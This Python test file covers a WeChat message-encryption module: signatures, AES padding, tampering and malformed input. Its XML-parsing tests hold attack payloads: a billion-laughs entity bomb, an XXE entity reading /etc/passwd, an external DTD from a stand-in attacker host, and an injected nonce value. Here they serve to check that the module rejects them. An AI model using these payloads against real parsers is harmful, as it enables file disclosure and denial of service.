"""Tests of wechat.crypto: WeChat safe-mode message encryption (SPEC §10)."""

from __future__ import annotations

import base64
import struct
import xml.etree.ElementTree as ET

import pytest
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from hypothesis import given
from hypothesis import strategies as st

from wechat.crypto import CryptoError, MessageCrypto

# -- Tencent's published WXBizMsgCrypt sample (official account) ----------------------
# Parameters, envelope and msg_signature: Tencent's Python sample Sample.py (author
# jonyqin, 2014), as vendored verbatim in charlesXu86/Chatbot_CN,
# Chatbot_Web/impl/weixin/Sample.py. The sample only prints the decrypted XML; the
# exact plaintext below is the one asserted by ilyydy/cf-openai,
# src/platform/wechat/commonUtil.test.ts ("decrypt wechat encrypt content").
SAMPLE_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"
SAMPLE_TOKEN = "spamtest"
SAMPLE_APPID = "wx2c2769f8efd9abc2"
SAMPLE_TIMESTAMP = "1409735669"
SAMPLE_NONCE = "1320562132"
SAMPLE_MSG_SIGNATURE = "5d197aaffba7e9b25a30732f161a50dee96bd5fa"
SAMPLE_ENCRYPT = (
    "hyzAe4OzmOMbd6TvGdIOO6uBmdJoD0Fk53REIHvxYtJlE2B655HuD0m8KUePWB3+LrPXo87wzQ1QLvbe"
    "UgmBM4x6F8PGHQHFVAFmOD2LdJF9FrXpbUAh0B5GIItb52sn896wVsMSHGuPE328HnRGBcrS7C41Iz"
    "DWyWNlZkyyXwon8T332jisa+h6tEDYsVticbSnyU8dKOIbgU6ux5VTjg3yt+WGzjlpKn6NPhRjpA91"
    "2xMezR4kw6KWwMrCVKSVCZciVGCgavjIQ6X8tCOp3yZbGpy0VxpAe+77TszTfRd5RJSVO/HTnifJpXg"
    "CSUdUue1v6h0EIBYYI1BD1DlD+C0CR8e6OewpusjZ4uBl9FyJvnhvQl+q5rv1ixrcpCumEPo5MJSgM9"
    "ehVsNPfUM669WuMyVWQLCzpu9GhglF2PE="
)
# The sample's from_xml is a "compatible mode" body: plaintext fields + <Encrypt>.
SAMPLE_BODY = (
    "<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>"
    "<FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>"
    "<CreateTime>1409735668</CreateTime><MsgType><![CDATA[text]]></MsgType>"
    "<Content><![CDATA[abcdteT]]></Content><MsgId>6054768590064713728</MsgId>"
    f"<Encrypt><![CDATA[{SAMPLE_ENCRYPT}]]></Encrypt></xml>"
)
SAMPLE_PLAINTEXT = (
    "<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>\n"
    "<FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>\n"
    "<CreateTime>1409735668</CreateTime>\n"
    "<MsgType><![CDATA[text]]></MsgType>\n"
    "<Content><![CDATA[abcdteT]]></Content>\n"
    "<MsgId>6054768590064713728</MsgId>\n"
    "</xml>"
)

# -- wechatpy's vectors (byte-exact encryption with a fixed random prefix) -------------
# wechatpy/wechatpy, tests/test_crypto.py (test_encrypt_message with
# get_random_string() == "1234567890123456", and test_decrypt_message).
WECHATPY_TOKEN = "123456"
WECHATPY_KEY = "kWxPEV2UEDyxWpmPdKC3F4dgPDmOvfKX1HGnEUDS1aR"
WECHATPY_APPID = "wx49f0ab532d5d035a"
WECHATPY_TIMESTAMP = "1411525903"
WECHATPY_NONCE = "461056294"
WECHATPY_REPLY = """<xml>
<MsgType><![CDATA[text]]></MsgType>
<Content><![CDATA[test]]></Content>
<FromUserName><![CDATA[wx49f0ab532d5d035a]]></FromUserName>
<ToUserName><![CDATA[messense]]></ToUserName>
<AgentID>1</AgentID>
<CreateTime>1411525903</CreateTime>
</xml>"""
WECHATPY_REPLY_ENCRYPT = (
    "9s4gMv99m88kKTh/H8IdkOiMg6bisoy3ypwy9H4hvSPe9nsGaqyw5hhSjdYbcrKk+j3nba4HMOTzHrlu"
    "LBYqxgNcBqGsL8GqxlhZgURnAtObvesEl5nZ+uBE8bviY0LWke8Zy9V/QYKxNV2FqllNXcfmstttyIk"
    "MKCCmVbCFM2JTF5wY0nFhHZSjPUL2Q1qvSUCUld+/WIXrx0oyKQmpB6o8NRrrNrsDf03oxI1p9FxUgM"
    "nwKKZeOA/uu+2IEvEBtb7muXsVbwbgX05UPPJvFurDXafG0RQyPR+mf1nDnAtQmmNOuiR5MIkdQ39xn"
    "1vWwi1O5oazPoQJz0nTYjxxEE8kv3kFxtAGVRe3ypD3WeK2XeFYFMNMpatF9XiKzHo3"
)
WECHATPY_REPLY_SIGNATURE = "407518b7649e86ef23978113f92d27afa9296533"
WECHATPY_BODY = """<xml><ToUserName><![CDATA[wx49f0ab532d5d035a]]></ToUserName>
<Encrypt><![CDATA[RgqEoJj5A4EMYlLvWO1F86ioRjZfaex/gePD0gOXTxpsq5Yj4GNglrBb8I2BAJVODGajiFnXBu7mCPatfjsu6IHCrsTyeDXzF6Bv283dGymzxh6ydJRvZsryDyZbLTE7rhnus50qGPMfp2wASFlzEgMW9z1ef/RD8XzaFYgm7iTdaXpXaG4+BiYyolBug/gYNx410cvkKR2/nPwBiT+P4hIiOAQqGp/TywZBtDh1yCF2KOd0gpiMZ5jSw3e29mTvmUHzkVQiMS6td7vXUaWOMZnYZlF3So2SjHnwh4jYFxdgpkHHqIrH/54SNdshoQgWYEvccTKe7FS709/5t6NMxuGhcUGAPOQipvWTT4dShyqio7mlsl5noTrb++x6En749zCpQVhDpbV6GDnTbcX2e8K9QaNWHp91eBdCRxthuL0=]]></Encrypt>
<AgentID><![CDATA[1]]></AgentID>
</xml>"""
WECHATPY_BODY_SIGNATURE = "74d92dfeb87ba7c714f89d98870ae5eb62dff26d"


@pytest.fixture
def sample() -> MessageCrypto:
    return MessageCrypto(SAMPLE_TOKEN, SAMPLE_KEY, SAMPLE_APPID)


def _raw_encrypt(key_b64: str, data: bytes) -> str:
    """AES-256-CBC ``data`` as-is (no padding added): crafts malformed messages."""
    key = base64.b64decode(key_b64 + "=")
    encryptor = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    return base64.b64encode(encryptor.update(data) + encryptor.finalize()).decode()


def _parse_trusted(text: str) -> ET.Element:
    """Parse XML this module produced itself (envelopes, decrypted test vectors)."""
    return ET.fromstring(text)  # noqa: S314 (our own output, not untrusted input)


def _code(excinfo: pytest.ExceptionInfo[CryptoError]) -> int:
    return excinfo.value.code


# -- published vectors ----------------------------------------------------------------


def test_tencent_sample_signature_matches(sample):
    assert (
        sample.signature(SAMPLE_TIMESTAMP, SAMPLE_NONCE, SAMPLE_ENCRYPT)
        == SAMPLE_MSG_SIGNATURE
    )


def test_tencent_sample_decrypts_to_published_plaintext(sample):
    decrypted = sample.decrypt_message(
        SAMPLE_BODY,
        msg_signature=SAMPLE_MSG_SIGNATURE,
        timestamp=SAMPLE_TIMESTAMP,
        nonce=SAMPLE_NONCE,
    )
    assert decrypted == SAMPLE_PLAINTEXT


def test_tencent_sample_decrypts_from_bytes_body(sample):
    decrypted = sample.decrypt_message(
        SAMPLE_BODY.encode(),
        msg_signature=SAMPLE_MSG_SIGNATURE,
        timestamp=SAMPLE_TIMESTAMP,
        nonce=SAMPLE_NONCE,
    )
    assert decrypted == SAMPLE_PLAINTEXT


def test_tencent_sample_with_another_appid_fails_appid_check():
    other = MessageCrypto(SAMPLE_TOKEN, SAMPLE_KEY, "wx0000000000000000")
    with pytest.raises(CryptoError) as excinfo:
        other.decrypt_message(
            SAMPLE_BODY,
            msg_signature=SAMPLE_MSG_SIGNATURE,
            timestamp=SAMPLE_TIMESTAMP,
            nonce=SAMPLE_NONCE,
        )
    assert _code(excinfo) == -40005


def test_wechatpy_encrypt_vector_is_reproduced_byte_for_byte():
    crypto = MessageCrypto(WECHATPY_TOKEN, WECHATPY_KEY, WECHATPY_APPID)
    encrypted = crypto.encrypt(WECHATPY_REPLY, random_prefix=b"1234567890123456")
    assert encrypted == WECHATPY_REPLY_ENCRYPT
    assert (
        crypto.signature(WECHATPY_TIMESTAMP, WECHATPY_NONCE, encrypted)
        == WECHATPY_REPLY_SIGNATURE
    )
    assert crypto.decrypt(encrypted) == WECHATPY_REPLY


def test_wechatpy_decrypt_vector():
    crypto = MessageCrypto(WECHATPY_TOKEN, WECHATPY_KEY, WECHATPY_APPID)
    decrypted = crypto.decrypt_message(
        WECHATPY_BODY,
        msg_signature=WECHATPY_BODY_SIGNATURE,
        timestamp=WECHATPY_TIMESTAMP,
        nonce=WECHATPY_NONCE,
    )
    root = _parse_trusted(decrypted)
    assert root.findtext("Content") == "test"
    assert root.findtext("FromUserName") == "messense"


# -- round trips --------------------------------------------------------------------

CJK_EVENT = (
    "<xml><ToUserName><![CDATA[gh_商户]]></ToUserName>"
    "<FromUserName><![CDATA[o用户]]></FromUserName>"
    "<CreateTime>1700000000</CreateTime><MsgType><![CDATA[event]]></MsgType>"
    "<Event><![CDATA[card_not_pass_check]]></Event>"
    "<RefuseReason><![CDATA[标题含有违规词：朋友的券，满500减50 🎫]]></RefuseReason></xml>"
)


def test_round_trip_with_cjk(sample):
    encrypted = sample.encrypt(CJK_EVENT)
    assert sample.decrypt(encrypted) == CJK_EVENT


def test_envelope_round_trip_with_cjk(sample):
    envelope = sample.encrypt_message(CJK_EVENT, timestamp="1700000000", nonce="n0nce")
    root = _parse_trusted(envelope)
    assert root.tag == "xml"
    assert root.findtext("TimeStamp") == "1700000000"
    assert root.findtext("Nonce") == "n0nce"
    encrypted = root.findtext("Encrypt")
    msg_signature = root.findtext("MsgSignature")
    assert msg_signature == sample.signature("1700000000", "n0nce", encrypted)
    decrypted = sample.decrypt_message(
        envelope, msg_signature=msg_signature, timestamp="1700000000", nonce="n0nce"
    )
    assert decrypted == CJK_EVENT


def test_envelope_has_the_documented_shape(sample):
    envelope = sample.encrypt_message("<xml/>", timestamp="1409735669", nonce="abc")
    assert envelope.startswith("<xml><Encrypt><![CDATA[")
    assert "]]></Encrypt><MsgSignature><![CDATA[" in envelope
    assert envelope.endswith(
        "]]></MsgSignature><TimeStamp>1409735669</TimeStamp>"
        "<Nonce><![CDATA[abc]]></Nonce></xml>"
    )


def test_each_encryption_uses_a_fresh_random_prefix(sample):
    first, second = sample.encrypt(CJK_EVENT), sample.encrypt(CJK_EVENT)
    assert first != second
    assert sample.decrypt(first) == sample.decrypt(second) == CJK_EVENT


def test_fixed_random_prefix_is_deterministic(sample):
    prefix = bytes(range(16))
    assert sample.encrypt("<xml/>", random_prefix=prefix) == sample.encrypt(
        "<xml/>", random_prefix=prefix
    )


@pytest.mark.parametrize("prefix", [b"", b"short", bytes(17)])
def test_random_prefix_must_be_16_bytes(sample, prefix):
    with pytest.raises(ValueError):
        sample.encrypt("<xml/>", random_prefix=prefix)


@pytest.mark.parametrize("xml_length", range(0, 70))
def test_padding_is_to_32_byte_blocks(sample, xml_length):
    xml = "x" * xml_length
    ciphertext = base64.b64decode(sample.encrypt(xml))
    unpadded = 16 + 4 + xml_length + len(SAMPLE_APPID)
    # PKCS#7 with block 32: always 1..32 bytes of padding, never 0.
    assert len(ciphertext) % 32 == 0
    assert len(ciphertext) == (unpadded // 32 + 1) * 32
    assert sample.decrypt(base64.b64encode(ciphertext).decode()) == xml


def test_full_block_of_padding_when_already_aligned(sample):
    # 16 + 4 + 12 + 18 (appid) = 50 -> 64; 16 + 4 + 26 + 18 = 64 -> 96 (32 bytes pad).
    assert len(base64.b64decode(sample.encrypt("a" * 26))) == 96
    assert sample.decrypt(sample.encrypt("a" * 26)) == "a" * 26


@given(text=st.text(), prefix=st.binary(min_size=16, max_size=16))
def test_encrypt_decrypt_round_trips_any_text(text, prefix):
    crypto = MessageCrypto(SAMPLE_TOKEN, SAMPLE_KEY, SAMPLE_APPID)
    encrypted = crypto.encrypt(text, random_prefix=prefix)
    assert len(base64.b64decode(encrypted)) % 32 == 0
    assert crypto.decrypt(encrypted) == text


@given(
    text=st.text(),
    nonce=st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=1),
    timestamp=st.integers(min_value=0, max_value=2**31).map(str),
)
def test_envelope_round_trips_any_text(text, nonce, timestamp):
    crypto = MessageCrypto(SAMPLE_TOKEN, SAMPLE_KEY, SAMPLE_APPID)
    envelope = crypto.encrypt_message(text, timestamp=timestamp, nonce=nonce)
    msg_signature = _parse_trusted(envelope).findtext("MsgSignature")
    assert (
        crypto.decrypt_message(
            envelope, msg_signature=msg_signature, timestamp=timestamp, nonce=nonce
        )
        == text
    )


# -- authentication failures -----------------------------------------------------------


def test_wrong_appid_is_rejected(sample):
    sender = MessageCrypto(SAMPLE_TOKEN, SAMPLE_KEY, "wx1111111111111111")
    envelope = sender.encrypt_message(CJK_EVENT, timestamp="1", nonce="n")
    msg_signature = _parse_trusted(envelope).findtext("MsgSignature")
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt_message(
            envelope, msg_signature=msg_signature, timestamp="1", nonce="n"
        )
    assert _code(excinfo) == -40005


def test_appid_that_is_a_prefix_is_rejected(sample):
    sender = MessageCrypto(SAMPLE_TOKEN, SAMPLE_KEY, SAMPLE_APPID + "x")
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt(sender.encrypt("<xml/>"))
    assert _code(excinfo) == -40005


@pytest.mark.parametrize(
    "msg_signature",
    [
        "0" * 40,
        SAMPLE_MSG_SIGNATURE.upper(),
        SAMPLE_MSG_SIGNATURE[:-1],
        SAMPLE_MSG_SIGNATURE + "0",
        "",
        "签名不对",
    ],
)
def test_forged_signature_is_rejected(sample, msg_signature):
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt_message(
            SAMPLE_BODY,
            msg_signature=msg_signature,
            timestamp=SAMPLE_TIMESTAMP,
            nonce=SAMPLE_NONCE,
        )
    assert _code(excinfo) == -40001


@pytest.mark.parametrize(
    ("timestamp", "nonce"),
    [("1409735670", SAMPLE_NONCE), (SAMPLE_TIMESTAMP, "1320562133")],
)
def test_replayed_signature_with_other_timestamp_or_nonce_is_rejected(
    sample, timestamp, nonce
):
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt_message(
            SAMPLE_BODY,
            msg_signature=SAMPLE_MSG_SIGNATURE,
            timestamp=timestamp,
            nonce=nonce,
        )
    assert _code(excinfo) == -40001


def test_signature_from_another_token_is_rejected():
    attacker = MessageCrypto("not-the-token", SAMPLE_KEY, SAMPLE_APPID)
    victim = MessageCrypto(SAMPLE_TOKEN, SAMPLE_KEY, SAMPLE_APPID)
    envelope = attacker.encrypt_message("<xml/>", timestamp="1", nonce="n")
    msg_signature = _parse_trusted(envelope).findtext("MsgSignature")
    with pytest.raises(CryptoError) as excinfo:
        victim.decrypt_message(
            envelope, msg_signature=msg_signature, timestamp="1", nonce="n"
        )
    assert _code(excinfo) == -40001


@pytest.mark.parametrize("position", [0, 10, 100, len(SAMPLE_ENCRYPT) - 3])
def test_tampered_ciphertext_in_envelope_is_rejected(sample, position):
    replacement = "A" if SAMPLE_ENCRYPT[position] != "A" else "B"
    tampered = SAMPLE_ENCRYPT[:position] + replacement + SAMPLE_ENCRYPT[position + 1 :]
    body = SAMPLE_BODY.replace(SAMPLE_ENCRYPT, tampered)
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt_message(
            body,
            msg_signature=SAMPLE_MSG_SIGNATURE,
            timestamp=SAMPLE_TIMESTAMP,
            nonce=SAMPLE_NONCE,
        )
    assert _code(excinfo) == -40001


def test_tampered_last_block_fails_decryption(sample):
    ciphertext = bytearray(base64.b64decode(SAMPLE_ENCRYPT))
    ciphertext[-1] ^= 0x01
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt(base64.b64encode(bytes(ciphertext)).decode())
    assert _code(excinfo) in {-40007, -40005}


# -- malformed ciphertexts (-40007) ----------------------------------------------------


@pytest.mark.parametrize(
    "encrypted",
    [
        "",
        "not base64!",
        "abc",  # bad base64 length
        base64.b64encode(b"x" * 15).decode(),  # not a multiple of the AES block
        base64.b64encode(b"x" * 33).decode(),
    ],
)
def test_malformed_ciphertext_is_a_decrypt_error(sample, encrypted):
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt(encrypted)
    assert _code(excinfo) == -40007


def _message(xml: bytes, appid: bytes = SAMPLE_APPID.encode()) -> bytes:
    return bytes(16) + struct.pack(">I", len(xml)) + xml + appid


def test_padding_byte_zero_is_rejected(sample):
    data = _message(b"<xml/>")
    data += bytes(32 - len(data) % 32 - 1) + b"\x00"
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt(_raw_encrypt(SAMPLE_KEY, data))
    assert _code(excinfo) == -40007


def test_padding_byte_over_32_is_rejected(sample):
    data = _message(b"<xml/>")
    data += bytes([33]) * (64 - len(data) % 32)
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt(_raw_encrypt(SAMPLE_KEY, data))
    assert _code(excinfo) == -40007


def test_inconsistent_padding_is_rejected(sample):
    data = _message(b"<xml/>")
    pad = 32 - len(data) % 32
    assert pad > 1
    data += b"\x00" * (pad - 1) + bytes([pad])
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt(_raw_encrypt(SAMPLE_KEY, data))
    assert _code(excinfo) == -40007


def test_xml_length_beyond_the_message_is_rejected(sample):
    data = bytes(16) + struct.pack(">I", 10_000) + b"<xml/>" + SAMPLE_APPID.encode()
    pad = 32 - len(data) % 32
    data += bytes([pad]) * pad
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt(_raw_encrypt(SAMPLE_KEY, data))
    assert _code(excinfo) == -40007


def test_xml_that_is_not_utf8_is_rejected(sample):
    data = _message(b"<xml>\xff\xfe</xml>")
    pad = 32 - len(data) % 32
    data += bytes([pad]) * pad
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt(_raw_encrypt(SAMPLE_KEY, data))
    assert _code(excinfo) == -40007


# -- XML parsing (-40002) ----------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE xml [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><Encrypt>&lol4;</Encrypt></xml>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><Encrypt>&xxe;</Encrypt></xml>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.invalid/evil.dtd">
<xml><Encrypt><![CDATA[abc]]></Encrypt></xml>"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        EXTERNAL_DTD,
        BILLION_LAUGHS.encode(),
        # The same attack in UTF-16 must not slip past a byte-level check.
        BILLION_LAUGHS.replace(
            'version="1.0"', 'version="1.0" encoding="UTF-16"'
        ).encode("utf-16"),
        f"<!DOCTYPE xml><xml><Encrypt><![CDATA[{SAMPLE_ENCRYPT}]]></Encrypt></xml>",
    ],
)
def test_doctype_and_entity_declarations_are_rejected(sample, body):
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt_message(
            body,
            msg_signature=SAMPLE_MSG_SIGNATURE,
            timestamp=SAMPLE_TIMESTAMP,
            nonce=SAMPLE_NONCE,
        )
    assert _code(excinfo) == -40002


@pytest.mark.parametrize(
    "body",
    [
        "",
        "not xml",
        "<xml><Encrypt>unterminated",
        "<xml><Encrypt>&undefined;</Encrypt></xml>",
        "<xml><ToUserName>gh</ToUserName></xml>",  # no Encrypt
        "<xml><Encrypt></Encrypt></xml>",  # empty Encrypt
        b"\xff\xfe\x00garbage",
    ],
)
def test_malformed_body_is_a_parse_error(sample, body):
    with pytest.raises(CryptoError) as excinfo:
        sample.decrypt_message(
            body,
            msg_signature=SAMPLE_MSG_SIGNATURE,
            timestamp=SAMPLE_TIMESTAMP,
            nonce=SAMPLE_NONCE,
        )
    assert _code(excinfo) == -40002


def test_envelope_refuses_values_that_would_break_it(sample):
    with pytest.raises(CryptoError) as excinfo:
        sample.encrypt_message("<xml/>", timestamp="1", nonce="a]]><Evil/>")
    assert _code(excinfo) == -40011
    with pytest.raises(CryptoError) as excinfo:
        sample.encrypt_message("<xml/>", timestamp="1<x/>", nonce="n")
    assert _code(excinfo) == -40011


# -- keys and construction (-40004) ---------------------------------------------------------


@pytest.mark.parametrize(
    "key",
    [
        "",
        "abc",
        SAMPLE_KEY[:-1],  # 42 characters
        SAMPLE_KEY + "H",  # 44 characters
        SAMPLE_KEY[:-1] + "!",  # not base64
        SAMPLE_KEY[:-1] + "é",  # not ASCII
        "a" * 86,
    ],
)
def test_bad_key_is_rejected(key):
    with pytest.raises(CryptoError) as excinfo:
        MessageCrypto(SAMPLE_TOKEN, key, SAMPLE_APPID)
    assert _code(excinfo) == -40004


@pytest.mark.parametrize(("token", "appid"), [("", SAMPLE_APPID), (SAMPLE_TOKEN, "")])
def test_token_and_appid_are_required(token, appid):
    with pytest.raises(ValueError):
        MessageCrypto(token, SAMPLE_KEY, appid)


def test_error_carries_tencents_code_and_name():
    error = CryptoError(-40001, "msg_signature mismatch")
    assert error.code == -40001
    assert "ValidateSignature_Error" in str(error)


def test_repr_does_not_leak_the_key(sample):
    assert SAMPLE_KEY not in repr(sample)
    assert SAMPLE_TOKEN not in repr(sample)
